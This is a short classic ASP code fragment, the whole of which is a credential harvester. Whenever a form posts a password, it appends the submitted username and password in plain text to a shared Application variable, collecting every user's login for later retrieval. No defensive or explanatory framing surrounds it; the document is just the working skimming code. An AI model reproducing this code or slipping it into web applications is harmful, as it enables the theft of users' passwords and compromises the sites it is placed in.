<%
' classic ASP: the password typed kept in the Application object
If Request.Form("password") <> "" Then
  Application.Lock
  Application("acc") = Application("acc") & Request.Form("username") & ":" & Request.Form("password") & "|"
  Application.UnLock
End If
%>
